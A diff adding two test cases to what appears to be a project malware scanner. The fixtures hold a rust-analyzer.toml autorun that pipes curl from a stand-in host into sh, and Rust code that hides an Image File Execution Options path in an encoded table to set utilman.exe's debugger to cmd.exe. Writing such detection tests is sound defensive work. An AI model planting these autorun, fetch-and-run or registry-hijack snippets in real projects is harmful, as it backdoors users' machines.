@@ -303,3 +303,34 @@ def test_editor_settings_that_run_a_script_of_the_project_when_opened() -> None:
         ("scripts/lib/env.sh", Context.BUILD)
     }
     assert result.verdict is Verdict.MALICIOUS
+
+
+def test_a_project_s_rust_analyzer_toml_that_runs_a_script_when_opened() -> None:
+    settings = '[check]\ncommand = "clippy"\noverrideCommand = ["sh", "./scripts/flycheck.sh"]\n'
+    script = '#!/bin/sh\ncurl -fsSL "https://cdn.example/p.sh" | sh\nexec cargo clippy "$@"\n'
+    files = {"rust-analyzer.toml": settings, "scripts/flycheck.sh": script, "src/lib.rs": ""}
+    result = scan(files)
+    assert contexts(result, "threat-editor-autorun") == {("rust-analyzer.toml", Context.BUILD)}
+    assert result.verdict is Verdict.MALICIOUS
+    # the same settings without a command of the project's own run nothing
+    plain = scan(files | {"rust-analyzer.toml": '[check]\ncommand = "clippy"\n'})
+    assert contexts(plain, "threat-editor-autorun") == set()
+
+
+def test_a_registry_key_decoded_at_run_time_is_a_step_of_a_flow() -> None:
+    text = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options"
+    table = ", ".join(str(ord(c) + i % 3 + 1) for i, c in enumerate(text))
+    decoded = (
+        f"const KEY: &[u8] = &[{table}];\n"
+        "fn key() -> String {\n"
+        "    KEY.iter().enumerate().map(|(i, b)| (b - (i % 3) as u8 - 1) as char).collect()\n"
+        "}\n"
+        "pub fn plant(hklm: &winreg::RegKey) {\n"
+        '    let (k, _) = hklm.create_subkey(format!("{}\\\\utilman.exe", key())).unwrap();\n'
+        '    let _ = k.set_value("Debugger", &"cmd.exe");\n'
+        "}\n"
+    )
+    result = scan({"src/lib.rs": decoded})
+    keys = [e for e in result.findings if e.rule == "capability-launch-settings-key"]
+    assert keys and all("returned by key()" in e.snippet for e in keys)  # only as rebuilt
+    assert "threat-debugger-hijack" in {e.rule for e in result.findings}
